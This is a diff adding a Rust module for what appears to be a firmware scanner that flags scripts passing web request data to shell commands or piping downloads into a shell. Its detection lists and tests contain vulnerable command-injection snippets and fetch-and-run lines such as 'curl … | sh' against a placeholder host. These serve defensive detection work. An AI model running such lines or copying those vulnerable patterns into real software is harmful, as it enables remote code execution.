@@ -1,0 +1,433 @@
+// SPDX-License-Identifier: Apache-2.0 OR MIT
+//! Scripts in which data from outside runs as code: what a web request brings, handed to a shell, and
+//! what is fetched, run as it comes. By lines, not by a parser: a variable that a request fills is
+//! followed through assignments; one that is checked or quoted on the way is let go.
+
+use thirteen_evidence::facts::CodeFlow;
+use thirteen_evidence::{Area, Evidence};
+use thirteen_unpack::{EntryKind, Seat};
+
+use crate::config::locate;
+use crate::facet::{Kept, LookedAt, Want};
+use crate::facets::number_of;
+use crate::view::{Found, Image, Line, lines};
+
+/// Flows of one script that are kept.
+const MAX_FLOWS: usize = 32;
+/// Variables of one script that are followed.
+const MAX_TAINTED: usize = 64;
+/// Largest script that is read, in bytes.
+const MAX_SCRIPT: usize = 1 << 20;
+
+/// Programs that fetch.
+const LOADERS: [&str; 3] = ["curl ", "wget ", "uclient-fetch "];
+
+/// The facet.
+pub struct Facet;
+
+/// Where data runs as code: lines by number, offset and length.
+#[derive(Debug, Clone, PartialEq, Eq)]
+struct Flow {
+    kind: &'static str,
+    language: Language,
+    source: String,
+    sink: &'static str,
+    at: Place,
+    from: Option<Place>,
+}
+
+#[derive(Debug, Clone, PartialEq, Eq)]
+struct Place {
+    number: u32,
+    offset: u64,
+    bytes: Vec<u8>,
+}
+
+impl Place {
+    fn of(line: &Line<'_>) -> Self {
+        let bytes = line.bytes[..line.bytes.len().min(400)].to_vec();
+        Self { number: line.number, offset: line.offset, bytes }
+    }
+
+    fn line(&self) -> Line<'_> {
+        Line { bytes: &self.bytes, number: self.number, offset: self.offset }
+    }
+}
+
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+enum Language {
+    Lua,
+    Php,
+    Shell,
+}
+
+impl Language {
+    fn of(path: &[u8], content: &[u8]) -> Option<Self> {
+        let first = content.split(|byte| *byte == b'\n').next().unwrap_or_default();
+        if first.starts_with(b"#!") {
+            let name =
+                first.split(|byte| matches!(byte, b'/' | b' ')).rfind(|own| !own.is_empty())?;
+            return match name {
+                b"sh" | b"ash" | b"bash" | b"dash" | b"ksh" => Some(Self::Shell),
+                b"rc.common" => Some(Self::Shell),
+                b"lua" => Some(Self::Lua),
+                name if name.starts_with(b"php") => Some(Self::Php),
+                _ => None,
+            };
+        }
+        // Compiled Lua begins with an escape character.
+        let is_text = !content.starts_with(b"\x1b") && !content.starts_with(b"\x7f");
+        if is_text && path.ends_with(b".lua") {
+            return Some(Self::Lua);
+        }
+        (is_text && path.ends_with(b".php")).then_some(Self::Php)
+    }
+
+    fn id(self) -> &'static str {
+        match self {
+            Self::Lua => "lua",
+            Self::Php => "php",
+            Self::Shell => "shell",
+        }
+    }
+
+    /// What names data of a request.
+    fn sources(self) -> &'static [&'static str] {
+        match self {
+            Self::Lua => &["formvalue(", "formvaluetable(", "ngx.var.arg_", "ngx.req.get_uri_args"],
+            Self::Php => &["$_GET", "$_POST", "$_REQUEST", "$_COOKIE", "php://input"],
+            Self::Shell => {
+                &["QUERY_STRING", "HTTP_COOKIE", "HTTP_USER_AGENT", "PATH_INFO", "POST_DATA"]
+            }
+        }
+    }
+
+    /// What runs a string as a command.
+    fn sinks(self) -> &'static [&'static str] {
+        match self {
+            Self::Lua => &["os.execute(", "io.popen(", "sys.call(", "sys.exec(", "util.exec("],
+            Self::Php => &["shell_exec(", "passthru(", "proc_open(", "system(", "popen(", "exec("],
+            Self::Shell => &["eval ", "sh -c ", "su -c "],
+        }
+    }
+
+    /// What takes the danger out of a string, or lets nothing else through.
+    fn guards(self) -> &'static [&'static str] {
+        match self {
+            Self::Lua => &["%q", "shellquote", "tonumber", ":match(", "gsub("],
+            Self::Php => &[
+                "escapeshell",
+                "intval(",
+                "(int)",
+                "preg_match",
+                "in_array",
+                "ctype_",
+                "basename(",
+            ],
+            Self::Shell => &["tr -cd", "tr -dc", "grep -q", "[!", "[^", "printf %q", "case "],
+        }
+    }
+}
+
+impl crate::facet::Facet for Facet {
+    fn area(&self) -> Area {
+        Area::Scripts
+    }
+
+    fn want(&self, seat: &Seat<'_>) -> Want {
+        let path = &seat.header.path;
+        let is_reading = ["/doc/", "/man/", "/examples/", "/opkg/info/"]
+            .iter()
+            .any(|own| memchr::memmem::find(path, own.as_bytes()).is_some());
+        let is_file = seat.header.kind == EntryKind::File;
+        if is_file && !is_reading { Want::Scan } else { Want::Nothing }
+    }
+
+    fn scan(&self, seat: &Seat<'_>, content: &[u8]) -> Option<Kept> {
+        let language = Language::of(&seat.header.path, content)?;
+        let content = &content[..content.len().min(MAX_SCRIPT)];
+        // Most scripts name nothing that comes from outside: they are not read line by line.
+        let is_of_interest = language.sources().iter().any(|own| has(content, own))
+            || language == Language::Shell && LOADERS.iter().any(|own| has(content, own));
+        let flows = if is_of_interest { flows(language, content) } else { Vec::new() };
+        Some(Box::new(flows))
+    }
+
+    fn fold(&self, image: &Image<'_>, evidence: &mut Evidence, looked: &mut LookedAt) {
+        image.file_systems().for_each(|_| looked.source());
+        for (entry, flows) in image.kept::<Vec<Flow>>(number_of(Area::Scripts)) {
+            let Some(own) = image.tree().entries.get(entry) else { continue };
+            looked.file(own.read);
+            let found = Found { entry, header: &own.header, text: None };
+            for flow in flows {
+                let places = std::iter::once(&flow.at).chain(&flow.from);
+                evidence.code_flows.push(CodeFlow {
+                    kind: flow.kind.to_owned(),
+                    language: flow.language.id().to_owned(),
+                    source: flow.source.clone(),
+                    sink: flow.sink.trim_end_matches(['(', ' ']).to_owned(),
+                    locators: places.map(|own| locate(image, found, &own.line())).collect(),
+                });
+            }
+        }
+    }
+}
+
+fn flows(language: Language, text: &[u8]) -> Vec<Flow> {
+    let mut found = Vec::new();
+    let mut tainted: Vec<(Vec<u8>, String, Place)> = Vec::new();
+    let comment: &[u8] = match language {
+        Language::Lua => b"--",
+        Language::Php => b"//",
+        Language::Shell => b"#",
+    };
+    for line in lines(text) {
+        let code = line.bytes.trim_ascii_start();
+        if code.is_empty() || code.starts_with(comment) || found.len() >= MAX_FLOWS {
+            continue;
+        }
+        if language == Language::Shell {
+            found.extend(download(&line));
+        } else if code.starts_with(b"function") || code.starts_with(b"local function") {
+            // What is local there ends with it.
+            tainted.clear();
+        }
+        let named =
+            (language.sources().iter().copied()).find(|own| names_source(language, code, own));
+        let through = tainted.iter().find(|(name, ..)| uses(language, code, name)).cloned();
+        if named.is_none() && through.is_none() {
+            continue;
+        }
+        let is_guarded = language.guards().iter().any(|own| has(code, own));
+        if is_guarded {
+            // What a line checks is let go.
+            tainted.retain(|(name, ..)| !uses(language, code, name));
+            continue;
+        }
+        let sink = language.sinks().iter().copied().find(|own| runs(language, code, own));
+        let source = named.map(|own| own.trim_end_matches('(').to_owned());
+        if let Some(sink) = sink {
+            let (argument, at) = (after(code, sink), Place::of(&line));
+            let direct = source
+                .clone()
+                .filter(|_| named.is_some_and(|own| names_source(language, argument, own)));
+            let through = through.clone().filter(|(name, ..)| uses(language, argument, name));
+            let (source, from) = match (direct, through) {
+                (Some(source), _) => (source, None),
+                (None, Some((_, source, from))) => (source, Some(from)),
+                (None, None) => continue,
+            };
+            found.push(Flow { kind: "request-to-shell", language, source, sink, at, from });
+            continue;
+        }
+        let source = source.or(through.map(|(_, source, _)| source));
+        if let (Some(name), Some(source)) = (assigned(language, code), source)
+            && tainted.len() < MAX_TAINTED
+        {
+            tainted.push((name, source, Place::of(&line)));
+        }
+    }
+    found
+}
+
+fn has(code: &[u8], text: &str) -> bool {
+    memchr::memmem::find(code, text.as_bytes()).is_some()
+}
+
+fn after<'a>(code: &'a [u8], text: &str) -> &'a [u8] {
+    let at = memchr::memmem::find(code, text.as_bytes()).unwrap_or(code.len());
+    code.get(at + text.len()..).unwrap_or_default()
+}
+
+/// In a shell, a variable's value; its name alone is none.
+fn names_source(language: Language, code: &[u8], source: &str) -> bool {
+    match language {
+        Language::Shell => uses(language, code, source.as_bytes()),
+        _ => has(code, source),
+    }
+}
+
+/// A word by itself: `system(` of `file_system(` is none.
+fn runs(language: Language, code: &[u8], sink: &str) -> bool {
+    memchr::memmem::find_iter(code, sink.as_bytes()).any(|at| {
+        let before = at.checked_sub(1).and_then(|at| code.get(at)).copied().unwrap_or(b' ');
+        let is_own = !(before.is_ascii_alphanumeric() || b"_>:$-".contains(&before));
+        is_own || language == Language::Lua && before == b'.'
+    })
+}
+
+/// A line of Lua without what stands in its strings: a name in there is no variable.
+fn outside_strings(code: &[u8]) -> Vec<u8> {
+    let mut outside = Vec::with_capacity(code.len());
+    let mut bytes = code.iter().copied();
+    while let Some(byte) = bytes.next() {
+        outside.push(byte);
+        if !matches!(byte, b'"' | b'\'') {
+            continue;
+        }
+        while let Some(inner) = bytes.next() {
+            if inner == b'\\' {
+                bytes.next();
+            } else if inner == byte {
+                outside.push(inner);
+                break;
+            }
+        }
+    }
+    outside
+}
+
+/// Whether a line uses the value of a variable.
+fn uses(language: Language, code: &[u8], name: &[u8]) -> bool {
+    if memchr::memmem::find(code, name).is_none() {
+        return false;
+    }
+    let bare = (language == Language::Lua).then(|| outside_strings(code));
+    let code = bare.as_deref().unwrap_or(code);
+    let is_name = |byte: u8| byte.is_ascii_alphanumeric() || byte == b'_';
+    memchr::memmem::find_iter(code, name).any(|at| {
+        let before = at.checked_sub(1).and_then(|at| code.get(at)).copied();
+        let behind = code.get(at + name.len()).copied();
+        let is_whole = !behind.is_some_and(is_name);
+        is_whole
+            && match language {
+                Language::Shell => match before {
+                    Some(b'$') => true,
+                    Some(b'{') => at >= 2 && code.get(at - 2) == Some(&b'$'),
+                    _ => false,
+                },
+                Language::Php => before == Some(b'$'),
+                Language::Lua => !before.is_some_and(|own| is_name(own) || own == b'.'),
+            }
+    })
+}
+
+/// The variable that a line fills.
+fn assigned(language: Language, code: &[u8]) -> Option<Vec<u8>> {
+    let at = memchr::memchr(b'=', code)?;
+    let before = code[..at].trim_ascii();
+    let is_comparison = code.get(at + 1) == Some(&b'=') || before.ends_with(b"!");
+    let word = before.rsplit(u8::is_ascii_whitespace).next()?;
+    let word = match language {
+        Language::Php => word.strip_prefix(b"$")?,
+        Language::Lua => word,
+        // No blank stands before the sign.
+        Language::Shell if code.get(at.wrapping_sub(1)) == Some(&b' ') => return None,
+        Language::Shell => word,
+    };
+    let is_name = |byte: &u8| byte.is_ascii_alphanumeric() || *byte == b'_';
+    (!is_comparison && !word.is_empty() && word.len() <= 64 && word.iter().all(is_name))
+        .then(|| word.to_vec())
+}
+
+/// `curl http://… | sh`, `eval "$(wget -O - …)"`, where what is fetched comes in clear.
+fn download(line: &Line<'_>) -> Option<Flow> {
+    const SHELLS: [&[u8]; 4] = [b"sh", b"ash", b"bash", b"/bin/sh"];
+    let code = line.bytes;
+    let at = LOADERS.iter().find_map(|own| {
+        let at = memchr::memmem::find(code, own.as_bytes())?;
+        let before = at.checked_sub(1).and_then(|at| code.get(at)).copied().unwrap_or(b' ');
+        (!before.is_ascii_alphanumeric()).then_some(at)
+    })?;
+    let rest = &code[at..];
+    let piped = memchr::memchr_iter(b'|', rest).any(|pipe| {
+        let is_single =
+            rest.get(pipe + 1) != Some(&b'|') && rest.get(pipe.wrapping_sub(1)) != Some(&b'|');
+        let next = rest[pipe + 1..].trim_ascii_start();
+        let word = next.split(|byte| b" \t;)&\"'".contains(byte)).next().unwrap_or_default();
+        is_single && SHELLS.contains(&word)
+    });
+    let evaluated = memchr::memmem::find(&code[..at], b"eval ").is_some_and(|eval| {
+        let between = &code[eval + 5..at];
+        has(between, "$(") || between.contains(&b'`')
+    });
+    if !piped && !evaluated {
+        return None;
+    }
+    let source = memchr::memmem::find(rest, b"http://").map_or("", |_| "http");
+    Some(Flow {
+        kind: "download-to-shell",
+        language: Language::Shell,
+        source: source.to_owned(),
+        sink: if evaluated { "eval" } else { "sh" },
+        at: Place::of(line),
+        from: None,
+    })
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn of(language: Language, text: &str) -> Vec<(&'static str, u32)> {
+        flows(language, text.as_bytes()).iter().map(|own| (own.sink, own.at.number)).collect()
+    }
+
+    #[test]
+    fn what_a_request_brings_runs() {
+        let text = "#!/bin/sh\nq=$QUERY_STRING\nhost=${q#host=}\neval ping $host\n";
+        assert_eq!(of(Language::Shell, text), [("eval ", 4)]);
+        assert_eq!(of(Language::Shell, "eval `echo $QUERY_STRING`\n"), [("eval ", 1)]);
+        let text = "<?php\n$h = $_GET['h'];\n$c = \"ping \" . $h;\nsystem($c);\n";
+        assert_eq!(of(Language::Php, text), [("system(", 4)]);
+        let text = "local h = luci.http.formvalue(\"h\")\nos.execute(\"ping \" .. h)\n";
+        assert_eq!(of(Language::Lua, text), [("os.execute(", 2)]);
+    }
+
+    #[test]
+    fn what_is_checked_or_quoted_does_not() {
+        for text in [
+            "q=$QUERY_STRING\ncase \"$q\" in *[!0-9]*) exit 1 ;; esac\neval ping $q\n",
+            "q=$(echo \"$QUERY_STRING\" | tr -cd 0-9)\neval ping $q\n",
+            // A word of its own is no command.
+            "q=$QUERY_STRING\nping \"$q\"\n",
+            "# eval $QUERY_STRING\n",
+            "eval $OTHER\n",
+            "[ -n \"$QUERY_STRING\" ] || exit 1\neval \"$(cat /etc/x)\"\n",
+        ] {
+            assert!(of(Language::Shell, text).is_empty(), "{text}");
+        }
+        let text = "$h = escapeshellarg($_GET['h']);\nsystem(\"ping $h\");\n";
+        assert!(of(Language::Php, text).is_empty());
+        assert!(of(Language::Php, "$h = $_GET['h'];\nfile_system($h);\n").is_empty());
+        for text in [
+            "local h = luci.http.formvalue(\"h\")\nos.execute(\"ping %q\" % h)\n",
+            // LuCI's network.lua: a name within a string, and one of another function.
+            "local dev = luci.http.formvalue(\"d\")\nluci.sys.call(\"env -i ubus >/dev/null\")\n",
+            "local s = luci.http.formvalue(\"d\")\nend\nfunction b(s)\nio.popen(s, \"w\")\n",
+        ] {
+            assert!(of(Language::Lua, text).is_empty(), "{text}");
+        }
+    }
+
+    #[test]
+    fn what_is_fetched_runs() {
+        for text in [
+            "curl -s http://u.example/i.sh | sh\n",
+            "wget -qO- http://u.example/i | /bin/sh -s\n",
+            "eval \"$(curl -s https://u.example/i)\"\n",
+        ] {
+            assert_eq!(of(Language::Shell, text).len(), 1, "{text}");
+        }
+        for text in [
+            "curl -s http://u.example/i.sh || sh /etc/other\n",
+            "curl -s http://u.example/i | grep sh\n",
+            "echo 'see wget ' | cat\n",
+            "wget -O /tmp/a http://u.example/a && /tmp/b\n",
+        ] {
+            assert!(of(Language::Shell, text).is_empty(), "{text}");
+        }
+    }
+
+    #[test]
+    fn languages_and_hostile_scripts() {
+        assert_eq!(Language::of(b"/www/a", b"#!/usr/bin/env php\n"), Some(Language::Php));
+        assert_eq!(Language::of(b"/a.lua", b"\x1bLuaQ"), None);
+        assert_eq!(Language::of(b"/a", b"\x7fELF"), None);
+        for language in [Language::Shell, Language::Php, Language::Lua] {
+            let _ = flows(language, &b"=$QUERY_STRING eval |curl |\n".repeat(20_000));
+            let _ = flows(language, &[0xff; 200_000]);
+            let _ = flows(language, &b"$_GET=system(".repeat(50_000));
+        }
+    }
+}
